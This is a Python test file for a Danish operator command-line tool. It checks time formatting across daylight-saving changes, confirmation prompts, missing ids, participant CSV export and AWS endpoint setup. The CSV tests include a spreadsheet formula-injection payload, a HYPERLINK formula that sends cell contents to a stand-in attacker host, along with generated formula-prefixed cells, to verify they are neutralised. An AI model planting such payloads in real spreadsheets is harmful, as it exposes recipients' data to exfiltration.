"""The operator CLI's own rules, with fake stores: ids that do not exist, questions before
what cannot be undone (j/n as well as y/n), Danish time in and out, the spreadsheet, and
where it sends its AWS calls."""

from __future__ import annotations

import csv
import socket
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import cli.resources
from cli.environment import configure, export_line, local_values, parse_export_line
from cli.prompts import confirm
from shared.danish import MONTHS, DanishTimeError, danish_phone, danish_time, parse_danish_time
from shared.forums.registration.models import Status
from shared.forums.spreadsheet import BOM, FORMULA_STARTS, HEADINGS, neutralise
from shared.platform.clock import COPENHAGEN
from tests.support.cli import FakeCatalogue, FakeRegistrations, FakeSession, leaders, person


@pytest.fixture(autouse=True)
def _no_local_runtime(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Every command here talks to the fakes, never to a runtime found on this machine."""
    monkeypatch.setenv("LOCAL_STATE_DIR", str(tmp_path / "no-runtime"))
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")


# -- Danish time ------------------------------------------------------------------------------

def test_times_are_shown_in_danish_time_summer_and_winter() -> None:
    assert danish_time(datetime(2027, 1, 15, 7, 0, tzinfo=UTC)) == \
        "fredag den 15. januar 2027 kl. 08.00"
    assert danish_time(datetime(2027, 7, 15, 7, 0, tzinfo=UTC)) == \
        "torsdag den 15. juli 2027 kl. 09.00"
    assert danish_time("2027-07-15T07:00:00+00:00") == "torsdag den 15. juli 2027 kl. 09.00"
    # naive is UTC inside
    assert danish_time(datetime(2027, 7, 15, 7, 0)) == "torsdag den 15. juli 2027 kl. 09.00"
    assert danish_time(None) == "-"


def _wall_time_kind(typed: datetime) -> str:
    """'once', 'never' (the hour skipped when summer time begins) or 'twice' (the hour
    repeated when it ends), for a wall-clock time in Copenhagen."""
    first, second = typed.replace(tzinfo=COPENHAGEN), typed.replace(tzinfo=COPENHAGEN, fold=1)
    if first.utcoffset() == second.utcoffset():
        return "once"
    back = first.astimezone(UTC).astimezone(COPENHAGEN).replace(tzinfo=None)
    return "twice" if back == typed else "never"


# Minutes near the changes of 2026-2040 come up often, the rest of the years too.
DST_DAYS = [datetime(year, month, day) for year in range(2026, 2041) for month in (3, 10)
            for day in range(25, 32) if datetime(year, month, day).weekday() == 6]
TYPED = st.one_of(
    st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2040, 1, 1)),
    st.builds(lambda day, minutes: day + timedelta(minutes=minutes),
              st.sampled_from(DST_DAYS), st.integers(60, 240)))


@given(TYPED)
def test_a_time_typed_without_offset_is_danish_time_and_prints_back_as_typed(
        typed: datetime) -> None:
    typed = typed.replace(second=0, microsecond=0, fold=0)  # typed text carries no fold
    text = typed.isoformat(sep=" ", timespec="minutes")
    kind = _wall_time_kind(typed)
    if kind == "once":
        parsed = parse_danish_time(text)
        assert parsed.utcoffset() == typed.replace(tzinfo=COPENHAGEN).utcoffset()
        assert parsed.astimezone(COPENHAGEN).replace(tzinfo=None) == typed
        assert danish_time(parsed, weekday=False) == \
            f"{typed.day}. {MONTHS[typed.month - 1]} {typed.year} kl. {typed:%H.%M}"
        return
    with pytest.raises(DanishTimeError) as refused:  # never guessed: the operator says which
        parse_danish_time(text)
    said = refused.value.message
    assert text in said
    assert ("findes ikke" in said) if kind == "never" else ("to gange" in said)
    if kind == "twice":  # with its offset it is one moment, printed so it cannot be confused
        for offset in ("+02:00", "+01:00"):
            parsed = parse_danish_time(text + offset)
            said = "sommertid" if offset == "+02:00" else "vintertid"
            assert danish_time(parsed, weekday=False) == \
                f"{typed.day}. {MONTHS[typed.month - 1]} {typed.year} kl. {typed:%H.%M} ({said})"


@given(st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2040, 1, 1)),
       st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2040, 1, 1)))
def test_two_different_minutes_never_print_alike(one: datetime, other: datetime) -> None:
    one, other = (m.replace(second=0, microsecond=0, tzinfo=UTC) for m in (one, other))
    assert (danish_time(one) == danish_time(other)) == (one == other)


def test_the_repeated_hour_prints_with_its_offset() -> None:
    day = "søndag den 31. oktober 2027"
    assert danish_time(datetime(2027, 10, 31, 0, 30, tzinfo=UTC)) == f"{day} kl. 02.30 (sommertid)"
    assert danish_time(datetime(2027, 10, 31, 1, 30, tzinfo=UTC)) == f"{day} kl. 02.30 (vintertid)"
    assert danish_time(datetime(2027, 10, 31, 2, 30, tzinfo=UTC)) == f"{day} kl. 03.30"


# -- questions --------------------------------------------------------------------------------

@click.command()
def ask() -> None:
    click.echo("JA" if confirm("Sikker?") else "NEJ")


@pytest.mark.parametrize(("answer", "said"), [
    ("j", "JA"), ("J", "JA"), ("ja", "JA"), ("y", "JA"), ("yes", "JA"), ("Yes", "JA"),
    ("n", "NEJ"), ("nej", "NEJ"), ("NO", "NEJ"), ("", "NEJ"), ("måske\nj", "JA"),
    ("x\nn", "NEJ")])
def test_confirmation_prompts_take_danish_and_english_answers(answer: str, said: str) -> None:
    done = CliRunner().invoke(ask, input=answer + "\n")
    assert done.exit_code == 0 and done.output.strip().endswith(said)
    if answer.startswith(("måske", "x")):
        assert "Svar j (ja) eller n (nej)." in done.output


def test_no_answer_at_all_is_no_in_danish() -> None:
    """Standard input closed (a script, `< /dev/null`): the question is answered no, in Danish,
    not with click's English 'Aborted!'."""
    done = CliRunner().invoke(ask, input="")
    assert done.exit_code == 0 and done.output.strip().endswith("NEJ")
    assert "Aborted" not in done.output


# -- fakes of what the commands read and change ----------------------------------------------









@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> tuple[FakeCatalogue, FakeRegistrations]:
    catalogue = FakeCatalogue({"s-1": FakeSession("s-1")})
    registrations = FakeRegistrations([])
    monkeypatch.setattr(cli.resources, "catalogue_store", lambda: catalogue)
    monkeypatch.setattr(cli.resources, "registration_store", lambda: registrations)
    return catalogue, registrations




# -- ids that do not exist --------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    ["forums", "close", "nope"], ["forums", "close", "nope", "--reopen"],
    ["forums", "participants", "nope"], ["forums", "participants", "nope", "--csv"],
    ["forums", "cancel-session", "nope", "--reason", "Syg", "--yes"]])
def test_a_session_that_does_not_exist_is_named_with_a_non_zero_exit(
        world: tuple[FakeCatalogue, FakeRegistrations], command: list[str]) -> None:
    done = leaders(*command)
    assert done.exit_code == 1
    assert "Mødet 'nope' findes ikke." in done.output
    assert world[0].changes == []


@pytest.mark.parametrize("address", ["notanemail", "a@b", "@example.dk", "a b@example.dk"])
@pytest.mark.parametrize("command", ["export", "erase"])
def test_privacy_commands_refuse_what_is_not_an_email_address(address: str,
                                                              command: str) -> None:
    done = leaders("privacy", command, address, "--yes" if command == "erase" else "--area=forums")
    assert done.exit_code == 1 and f"'{address}' er ikke en e-mailadresse." in done.output


# -- what cannot be undone asks first -------------------------------------------------------

def test_cancel_session_asks_first_and_no_changes_nothing(
        world: tuple[FakeCatalogue, FakeRegistrations]) -> None:
    catalogue, registrations = world
    registrations.people = [person(), person(number=2, status=Status.CANCELLED)]
    done = leaders("forums", "cancel-session", "s-1", "--reason", "Syg", input="n\n")
    assert ("Aflys s-1 (Kolding, onsdag den 4. marts 2099 kl. 09.30) "
            "og skriv til 1 deltager?") in done.output
    assert done.exit_code == 1 and "Intet er aflyst." in done.output
    assert catalogue.changes == []


@pytest.mark.parametrize("how", [["--yes"], [], []])
def test_cancel_session_goes_ahead_on_yes_or_when_told_so(
        world: tuple[FakeCatalogue, FakeRegistrations], how: list[str]) -> None:
    catalogue, _ = world
    done = leaders("forums", "cancel-session", "s-1", "--reason", "Syg", *how, input="j\n")
    assert done.exit_code == 0, done.output
    assert ("[j/n]" in done.output) is (how == [])
    assert catalogue.changes == [("s-1", {"cancelled": True, "reason": "Syg"})]


# -- the newsletter's own send time -----------------------------------------------------------

@given(ago=st.timedeltas(min_value=timedelta(minutes=1), max_value=timedelta(days=3000)))
def test_approve_at_a_time_already_past_is_refused(ago: timedelta) -> None:
    typed = (datetime.now(COPENHAGEN) - ago).strftime("%Y-%m-%dT%H:%M")
    done = leaders("newsletter", "approve", "nr-1", "--at", typed)
    assert done.exit_code == 1
    assert "er allerede passeret" in done.output and "(dansk tid)" in done.output


@pytest.mark.parametrize(("typed", "said"), [
    ("2027-03-28 02:30", "findes ikke"), ("2027-10-31 02:30", "to gange")])
def test_approve_at_a_time_that_the_clock_skips_or_repeats_asks_for_the_offset(
        typed: str, said: str) -> None:
    done = leaders("newsletter", "approve", "nr-1", "--at", typed)
    assert done.exit_code == 1 and said in done.output and "godkendt" not in done.output


def test_approve_at_something_that_is_not_a_time_says_how_to_write_it() -> None:
    done = leaders("newsletter", "approve", "nr-1", "--at", "næste tirsdag")
    assert done.exit_code == 1 and "dansk tid som ÅÅÅÅ-MM-DD tt:mm" in done.output


# -- the spreadsheet --------------------------------------------------------------------------

CELL = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"],
                             exclude_characters="\x00"), max_size=40)
DANGEROUS = st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), CELL).map("".join)
NAME = st.one_of(DANGEROUS, CELL.filter(lambda t: t.strip() != ""),
                 st.just('=HYPERLINK("https://evil.example/?"&A1;"Klik")'))


@given(people=st.lists(st.tuples(NAME, st.one_of(st.just(""), DANGEROUS, st.just("+45 12 34")),
                                 CELL, NAME), min_size=1, max_size=6))
def test_participants_csv_reads_back_cell_for_cell_with_no_formula(
        people: list[tuple[str, str, str, str]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    catalogue = FakeCatalogue({"s-1": FakeSession("s-1")})
    registered = [person(name, phone=phone, needs=needs, workplace=workplace, number=i,
                         status=Status.WAITLISTED if i % 2 else Status.CONFIRMED)
                  for i, (name, phone, needs, workplace) in enumerate(people)]
    store = FakeRegistrations(registered, line=[r.id for r in registered if r.status ==
                                                Status.WAITLISTED])
    out = tmp_path_factory.mktemp("csv") / "deltagere.csv"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(cli.resources, "catalogue_store", lambda: catalogue)
        patch.setattr(cli.resources, "registration_store", lambda: store)
        done = leaders("forums", "participants", "s-1", "--csv", "--out", str(out))
    assert done.exit_code == 0, done.output

    raw = out.read_bytes()
    assert raw.startswith(BOM.encode("utf-8"))  # Excel reads æøå as UTF-8
    with out.open(encoding="utf-8-sig", newline="") as opened:
        rows = list(csv.reader(opened, delimiter=";"))
    assert rows[0] == HEADINGS
    expected = {}
    for r in registered:
        place = store.line.index(r.id) + 1 if r.id in store.line else ""
        expected[r.id] = [
            "Bekræftet" if r.status is Status.CONFIRMED else "På venteliste", str(place),
            neutralise(r.name), r.email, neutralise(danish_phone(r.phone)), "Områdeleder",
            neutralise(r.workplace), "123", neutralise(r.needs or ""), "1. juli 2027 kl. 12.05",
                r.id]
    assert {row[-1]: row for row in rows[1:]} == expected
    assert len(rows) == len(registered) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


# -- where the AWS calls go ------------------------------------------------------------------

def test_the_printed_line_carries_both_region_variables() -> None:
    values = local_values("http://127.0.0.1:18000", "eu-north-1")
    line = export_line(values)
    assert "AWS_DEFAULT_REGION=eu-north-1" in line and "AWS_REGION=eu-north-1" in line
    assert parse_export_line(line) == values


def test_aws_region_alone_is_enough() -> None:
    environ = {"AWS_ENDPOINT_URL": "http://127.0.0.1:1", "AWS_REGION": "eu-north-1"}
    configure(environ)
    assert environ["AWS_DEFAULT_REGION"] == "eu-north-1"


@pytest.fixture
def listening() -> Any:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        yield f"http://127.0.0.1:{server.getsockname()[1]}"


def _written(folder: Path, endpoint: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "env").write_text(export_line(local_values(endpoint, "eu-north-1")) + "\n")


def test_the_local_env_file_is_read_when_no_endpoint_is_set(tmp_path: Path,
                                                            listening: str) -> None:
    _written(tmp_path, listening)
    environ = {"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path)}
    assert configure(environ) == str(tmp_path / "env")
    assert environ["AWS_ENDPOINT_URL"] == listening
    assert environ["AWS_DEFAULT_REGION"] == "eu-north-1"


@pytest.mark.parametrize("own", [{"AWS_PROFILE": "prod"}, {"AWS_ACCESS_KEY_ID": "AKIA…"},
                                 {"AWS_ENDPOINT_URL": "https://dynamodb.eu-north-1.amazonaws.com"}])
def test_the_local_env_file_is_ignored_beside_an_aws_setup_of_ones_own(
        tmp_path: Path, listening: str, own: dict[str, str]) -> None:
    _written(tmp_path, listening)
    environ = {"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path), **own}
    assert configure(environ) is None
    assert environ.get("AWS_ENDPOINT_URL") != listening


def test_the_local_env_file_is_ignored_when_its_runtime_is_gone_or_not_local(
        tmp_path: Path) -> None:
    for endpoint in ("http://127.0.0.1:9", "http://198.51.100.7:4566"):
        _written(tmp_path, endpoint)
        environ = {"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path)}
        assert configure(environ) is None and "AWS_ENDPOINT_URL" not in environ
    (tmp_path / ".aws").mkdir()
    (tmp_path / ".aws" / "config").write_text("[default]\nregion = eu-north-1\n")
    assert configure({"LOCAL_STATE_DIR": str(tmp_path), "HOME": str(tmp_path)}) is None


@given(st.text(alphabet=st.sampled_from([" ", "\u00a0", "=", "+", "-", "@", "\t", "\r", "a",
                                         "1", "'", "\0"]), max_size=6))
def test_no_cell_a_spreadsheet_could_run_as_a_formula_even_after_spaces(text: str) -> None:
    cell = neutralise(text)
    assert cell.startswith("'") or not cell.lstrip(" \u00a0").startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == text or cell == text  # the text itself is kept


def test_the_consultant_cli_says_until_when_and_from_which_day_in_danish(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Extend names the lease's new end and hold the follow-up day, both in Danish, as the
    console does (not an ISO date, not "er dit")."""
    from cli.main import main
    from shared.advisory.models import AdvisoryForm
    from shared.advisory.service import Desk, Intake
    from tests.support.advisory import (
        MemoryAdvisoryStore,
        MemorySealer,
        MemoryWorkQueue,
        NoMail,
    )
    from tests.support.clock import ManualClock

    clock = ManualClock(datetime(2026, 3, 28, 23, 50, tzinfo=UTC))  # the night clocks change
    store, sealer, queue = MemoryAdvisoryStore(), MemorySealer(), MemoryWorkQueue(clock)
    form = AdvisoryForm.model_validate({
        "kind": "conversation", "name": "Karen Blixen", "email": "karen@example.dk",
        "message": "Jeg overvejer at sige op", "urgent": False, "consent": True, "website": ""})
    reference = Intake(store, sealer, queue, NoMail(), retention_days=180, secret=b"s",
                       clock=clock).submit(form)[0]
    desk = Desk(store, sealer, queue, "konsulent@example.dk", clock=clock)
    assert desk.next() is not None
    monkeypatch.setattr("cli.consultant._desk", lambda: desk)
    runner = CliRunner()
    extended = runner.invoke(main, ["consultant", "extend", reference, "--lease-minutes", "90"])
    assert extended.exit_code == 0, extended.output
    until = danish_time(clock.now + timedelta(minutes=90))
    assert extended.output == f"{reference} er reserveret til dig indtil {until}.\n"
    held = runner.invoke(main, ["consultant", "hold", reference, "--until", "2026-03-29"])
    assert held.exit_code == 0, held.output
    assert held.output == (f"{reference} afventer svar. Fra søndag den 29. marts 2026 står den "
                           "øverst i dine åbne henvendelser.\n")
